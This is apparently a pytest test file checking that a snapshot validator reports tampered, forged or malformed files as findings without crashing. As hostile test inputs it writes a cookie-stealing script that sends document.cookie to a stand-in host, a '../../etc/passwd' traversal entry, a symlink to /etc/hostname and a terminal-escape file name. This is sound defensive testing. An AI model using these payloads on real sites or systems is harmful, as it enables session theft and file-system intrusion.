"""``peak-dryrun validate`` on hostile directories: findings with exit 1, never a traceback.

Exit 0 ok, 1 findings, 2 unreadable/usage. Every line it prints is ``path: problem`` or
``path:line: problem``, whatever the bytes it reads (a fuzzed property at the end).
"""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from pytest_peak_dryrun.cli import main
from pytest_peak_dryrun.core.canonical import dumps
from pytest_peak_dryrun.core.dryrun import run_scenario
from pytest_peak_dryrun.core.scenario import builtin_scenario
from pytest_peak_dryrun.report.session import write_session

Cli = Callable[..., tuple[int, str, str]]
MAX_LINE_BYTES = 8 << 20  # console.validate.MAX_LINE_BYTES (checked in the test that needs it)
AUDIT = "runs/happy_path/audit.jsonl"
EVENTS = "runs/happy_path/events.jsonl"


def _reseal(directory: Path, rel: str) -> None:
    """Update index.json's sha256 for ``rel``, as a careful forger would."""
    index = json.loads((directory / "index.json").read_text(encoding="utf-8"))
    index["files"][rel] = hashlib.sha256((directory / rel).read_bytes()).hexdigest()
    (directory / "index.json").write_text(dumps(index), encoding="utf-8")


def _replace_line(path: Path, number: int, new: bytes) -> None:
    lines = path.read_bytes().split(b"\n")
    lines[number - 1] = new
    path.write_bytes(b"\n".join(lines))


# -- audit and event lines the writer never writes -------------------------------------------------


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        (b"[]", 'not an audit line (expected {"event":{...},"prev_sha256":"<sha256>"})'),
        (b"1", 'not an audit line (expected {"event":{...},"prev_sha256":"<sha256>"})'),
        (b'{"event":"x"}', 'not an audit line (expected {"event":{...},"prev_sha256":"<sha256>"})'),
        (b'{"event":\xff}', "not UTF-8 text (byte 0xff at column 10)"),
    ],
)
def test_hostile_audit_line_is_a_finding(cli: Cli, snapshot_copy: Path, line: bytes, problem: str) -> None:
    _replace_line(snapshot_copy / AUDIT, 2, line)
    _reseal(snapshot_copy, AUDIT)
    rc, out, err = cli("validate", snapshot_copy)
    assert rc == 1
    assert out.splitlines() == [f"{snapshot_copy}/{AUDIT}:2: {problem}"]
    assert err == "1 problem(s) in " + str(snapshot_copy) + "\n"


def test_hostile_audit_line_through_the_real_command(snapshot_copy: Path) -> None:
    """The exact command of the issue: no traceback, exit 1 (not the crash it was)."""
    _replace_line(snapshot_copy / AUDIT, 2, b"[]")
    result = subprocess.run(
        [sys.executable, "-m", "pytest_peak_dryrun", "validate", str(snapshot_copy)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 1
    assert "Traceback" not in result.stderr + result.stdout
    assert f"{snapshot_copy}/{AUDIT}:2: not an audit line" in result.stdout


@pytest.mark.parametrize(
    ("line", "problem"),
    [
        (b"[]", "schema event: $: Expected `object`, got `array`"),
        (b"1", "schema event: $: Expected `object`, got `int`"),
        (b'{"event":"x"}', "schema event: $: Object contains unknown field `event`"),
        (b'{"seq":1', "not JSON (Input data was truncated)"),
        (b"\xff\xfe", "not UTF-8 text (byte 0xff at column 1)"),
        (b"[" * 100_000, "schema event: $: Expected `object`, got `array`"),  # typed decoding never recurses into it
    ],
)
def test_hostile_event_line_is_a_finding(cli: Cli, snapshot_copy: Path, line: bytes, problem: str) -> None:
    _replace_line(snapshot_copy / EVENTS, 3, line)
    _reseal(snapshot_copy, EVENTS)
    rc, out, _ = cli("validate", snapshot_copy)
    assert rc == 1
    lines = out.splitlines()
    assert [line for line in lines if line.startswith(f"{snapshot_copy}/{EVENTS}:3: {problem}")]
    assert f"{snapshot_copy}/{EVENTS}:3: differs from the event on audit.jsonl line 3" in lines


def test_truncated_audit_file(cli: Cli, snapshot_copy: Path) -> None:
    path = snapshot_copy / AUDIT
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    _reseal(snapshot_copy, AUDIT)
    n = data[: len(data) // 2].count(b"\n") + 1
    rc, out, _ = cli("validate", snapshot_copy)
    assert rc == 1
    lines = out.splitlines()
    assert f"{snapshot_copy}/{AUDIT}:{n}: no newline at the end (the file was cut off)" in lines
    assert (
        f"{snapshot_copy}/{AUDIT}:{n}: " + 'not an audit line (expected {"event":{...},"prev_sha256":"<sha256>"})'
        in (lines)
    )


def test_audit_file_cut_at_a_line_boundary_is_caught_by_the_report(cli: Cli, snapshot_copy: Path) -> None:
    """Dropping the last lines leaves a valid chain; the head in report.json (and the golden) does not match."""
    path = snapshot_copy / AUDIT
    lines = path.read_bytes().splitlines(keepends=True)
    path.write_bytes(b"".join(lines[:-2]))
    (snapshot_copy / EVENTS).write_bytes(b"".join((snapshot_copy / EVENTS).read_bytes().splitlines(True)[:-2]))
    _reseal(snapshot_copy, AUDIT)
    _reseal(snapshot_copy, EVENTS)
    rc, out, _ = cli("validate", snapshot_copy)
    assert rc == 1
    report = f"{snapshot_copy}/runs/happy_path/report.json"
    assert f"{report}: audit.events is {len(lines)} but audit.jsonl has {len(lines) - 2} line(s)" in out.splitlines()
    assert f"{report}: audit.head_sha256 is " in out


def test_huge_line_is_a_finding_not_a_memory_spike(cli: Cli, snapshot_copy: Path) -> None:
    from pytest_peak_dryrun.console import validate

    assert validate.MAX_LINE_BYTES == MAX_LINE_BYTES
    _replace_line(snapshot_copy / AUDIT, 3, b'{"event":"' + b"x" * (MAX_LINE_BYTES + 10) + b'"}')
    _reseal(snapshot_copy, AUDIT)
    rc, out, _ = cli("validate", snapshot_copy)
    assert rc == 1
    lines = out.splitlines()
    assert f"{snapshot_copy}/{AUDIT}:3: longer than {MAX_LINE_BYTES} bytes (not decoded)" in lines
    # the chain is picked up again after the line it could not read
    assert not any(f"{AUDIT}:4:" in line for line in lines)


# -- files nobody listed -----------------------------------------------------------------------------


def test_unlisted_files_anywhere_are_findings(cli: Cli, snapshot_copy: Path) -> None:
    (snapshot_copy / "evil.html").write_text("<script>fetch('https://example.invalid/'+document.cookie)</script>")
    (snapshot_copy / "extra").mkdir()
    (snapshot_copy / "extra" / "payload.json").write_text("{}")
    (snapshot_copy / "runs" / "tripwire" / "events.jsonl.tmp").write_text("{}\n")
    (snapshot_copy / ".hidden").write_text("x")
    rc, out, _ = cli("validate", snapshot_copy)
    assert rc == 1
    assert out.splitlines() == [
        f"{snapshot_copy}/.hidden: a file not listed in index.json",
        f"{snapshot_copy}/evil.html: a file not listed in index.json",
        f"{snapshot_copy}/extra/payload.json: a file not listed in index.json",
        f"{snapshot_copy}/runs/tripwire/events.jsonl.tmp: a file not listed in index.json "
        "(a leftover of an interrupted write)",
    ]


def test_listing_an_added_file_in_the_index_does_not_make_it_valid(cli: Cli, snapshot_copy: Path) -> None:
    (snapshot_copy / "evil.html").write_text("<script>alert(1)</script>")
    _reseal(snapshot_copy, "evil.html")
    rc, out, _ = cli("validate", snapshot_copy)
    assert rc == 1
    assert out.splitlines() == [
        f"{snapshot_copy}/evil.html: listed in index.json, but the writer never writes it (a file added to the index)"
    ]


def test_links_and_special_files_are_findings_and_never_followed(snapshot_copy: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text("x")
    os.symlink(outside, snapshot_copy / "linked_dir")
    metrics = snapshot_copy / "runs" / "happy_path" / "metrics.json"
    metrics.unlink()
    os.mkfifo(metrics)  # opening it would block forever
    os.symlink("/etc/hostname", snapshot_copy / "runs" / "happy_path" / "notes")
    # a subprocess with a timeout: a validate that opened the FIFO would hang, not fail
    result = subprocess.run(
        [sys.executable, "-m", "pytest_peak_dryrun", "validate", str(snapshot_copy)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 1, result.stderr
    lines = result.stdout.splitlines()
    assert f"{snapshot_copy}/linked_dir: a symbolic link not listed in index.json" in lines
    assert f"{snapshot_copy}/runs/happy_path/metrics.json: not a regular file (listed in index.json)" in lines
    assert f"{snapshot_copy}/runs/happy_path/notes: a symbolic link not listed in index.json" in lines
    assert "secret.txt" not in result.stdout
    assert "Traceback" not in result.stderr


def test_file_names_cannot_inject_lines_or_terminal_codes(cli: Cli, snapshot_copy: Path) -> None:
    os.close(os.open(os.fsencode(snapshot_copy) + b"/bad\x1b[2J\nname\xff", os.O_CREAT | os.O_WRONLY, 0o644))
    rc, out, _ = cli("validate", snapshot_copy)
    assert rc == 1
    assert out.splitlines() == [f"{snapshot_copy}/bad\\x1b[2J\\x0aname\\xff: a file not listed in index.json"]


def test_oversized_index_is_a_usage_error(cli: Cli, snapshot_copy: Path) -> None:
    with open(snapshot_copy / "index.json", "r+b") as fh:
        fh.truncate(65 << 20)
    rc, out, err = cli("validate", snapshot_copy)
    assert (rc, out) == (2, "")
    assert err == (
        f"peak-dryrun validate: error: {snapshot_copy}/index.json: {65 << 20} bytes: "
        f"not an index the writer wrote (at most {64 << 20})\n"
    )


@pytest.mark.parametrize("files", [{"a\x00b": "0" * 64}, {"../../etc/passwd": "0" * 64}, {"x" * 5000: "0" * 64}])
def test_hostile_index_entries_are_findings(cli: Cli, snapshot_copy: Path, files: dict[str, str]) -> None:
    index = json.loads((snapshot_copy / "index.json").read_text())
    index["files"].update(files)
    (snapshot_copy / "index.json").write_text(dumps(index))
    rc, out, _ = cli("validate", snapshot_copy)
    assert rc == 1
    assert f"{snapshot_copy}/index.json: file entry " in out


def test_hostile_run_id_in_the_index(cli: Cli, snapshot_copy: Path) -> None:
    index = json.loads((snapshot_copy / "index.json").read_text())
    index["runs"].append({**index["runs"][0], "run_id": "a\x00b"})
    (snapshot_copy / "index.json").write_text(dumps(index))
    rc, out, _ = cli("validate", snapshot_copy)
    assert rc == 1
    assert f"{snapshot_copy}/index.json: runs[4].run_id 'a\\x00b' is not a run directory name" in out.splitlines()


# -- fuzzed: whatever the bytes, 0/1/2 and no traceback --------------------------------------------


@pytest.fixture(scope="module")
def small_snapshot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("fuzz-base") / "snap"
    run_id = run_scenario(builtin_scenario("happy_path"), out_dir=out).run_id
    write_session(out, [run_id])
    return out


@contextlib.contextmanager
def _copy(base: Path) -> Iterator[Path]:
    with tempfile.TemporaryDirectory() as tmp:
        target = Path(tmp) / "snap"
        shutil.copytree(base, target)
        yield target


def _run_validate(directory: Path) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        rc = main(["validate", str(directory)])
    return rc, out.getvalue(), err.getvalue()


def _assert_well_formed(directory: Path, rc: int, out: str, err: str) -> None:
    assert rc in (0, 1, 2)
    assert "Traceback" not in out + err
    assert "internal error" not in out, out
    if rc == 2:
        assert out == ""
        assert err.startswith("peak-dryrun validate: error: ")
        assert err.count("\n") == 1
    else:
        for line in out.splitlines()[:-1] if rc == 0 else out.splitlines():
            assert line.startswith(f"{directory}"), line


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
_LINES = st.one_of(
    st.binary(max_size=200),
    _JSON.map(lambda v: json.dumps(v).encode()),
    st.dictionaries(st.sampled_from(["event", "prev_sha256", "hmac_sha256", "seq"]), _JSON, max_size=3).map(
        lambda v: json.dumps(v).encode()
    ),
)
_FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


@_FUZZ
@given(
    name=st.sampled_from([AUDIT, EVENTS]),
    where=st.integers(min_value=0, max_value=40),
    line=_LINES,
    mode=st.sampled_from(["replace", "insert", "flip", "cut"]),
    reseal=st.booleans(),
)
def test_fuzzed_jsonl_lines(small_snapshot: Path, name: str, where: int, line: bytes, mode: str, reseal: bool) -> None:
    with _copy(small_snapshot) as directory:
        path = directory / name
        original = path.read_bytes()
        lines = original.split(b"\n")[:-1]
        i = where % len(lines)
        if mode == "replace":
            lines[i] = line
        elif mode == "insert":
            lines.insert(i, line)
        elif mode == "flip":
            pos = where * 7 % len(lines[i])
            lines[i] = lines[i][:pos] + bytes([lines[i][pos] ^ (1 + where % 255)]) + lines[i][pos + 1 :]
        else:
            lines[i] = lines[i][: where % len(lines[i])]
        data = b"\n".join(lines) + (b"\n" if mode != "cut" or i != len(lines) - 1 else b"")
        assume(data != original)
        path.write_bytes(data)
        if reseal:
            _reseal(directory, name)
        rc, out, err = _run_validate(directory)
        _assert_well_formed(directory, rc, out, err)
        assert rc == 1  # any change to a run's history is found, resealed or not


@_FUZZ
@given(
    name=st.sampled_from(
        [
            "index.json",
            "runs/happy_path/report.json",
            "runs/happy_path/health.json",
            "runs/happy_path/status.json",
            "runs/happy_path/metrics.json",
            AUDIT,
            EVENTS,
            "dryrun_metrics_snapshot.json",
            "dryrun_status_snapshot.md",
        ]
    ),
    content=st.one_of(st.binary(max_size=300), _JSON.map(lambda v: json.dumps(v).encode())),
    reseal=st.booleans(),
)
def test_fuzzed_whole_files(small_snapshot: Path, name: str, content: bytes, reseal: bool) -> None:
    with _copy(small_snapshot) as directory:
        assume(content != (directory / name).read_bytes())
        (directory / name).write_bytes(content)
        if reseal and name != "index.json":
            _reseal(directory, name)
        rc, out, err = _run_validate(directory)
        _assert_well_formed(directory, rc, out, err)
        assert rc == (2 if name == "index.json" and rc == 2 else 1)


@_FUZZ
@given(value=_JSON, key=st.sampled_from(["files", "runs", "problems", "session", "complete", "seal", "schema"]))
def test_fuzzed_index_values(small_snapshot: Path, value: object, key: str) -> None:
    with _copy(small_snapshot) as directory:
        index = json.loads((directory / "index.json").read_text())
        assume(index.get(key) != value)
        index[key] = value
        (directory / "index.json").write_text(json.dumps(index, sort_keys=True, indent=2) + "\n")
        rc, out, err = _run_validate(directory)
        _assert_well_formed(directory, rc, out, err)
        assert rc == 1


def test_many_unlisted_files_are_summarised(cli: Cli, snapshot_copy: Path) -> None:
    (snapshot_copy / "spam").mkdir()
    for i in range(25):
        (snapshot_copy / "spam" / f"{i:02}.txt").write_text("x")
    rc, out, _ = cli("validate", snapshot_copy)
    assert rc == 1
    assert out.splitlines() == [
        f"{snapshot_copy}/spam/{i:02}.txt: a file not listed in index.json" for i in range(20)
    ] + [f"{snapshot_copy}: 5 more file(s) not listed in index.json"]
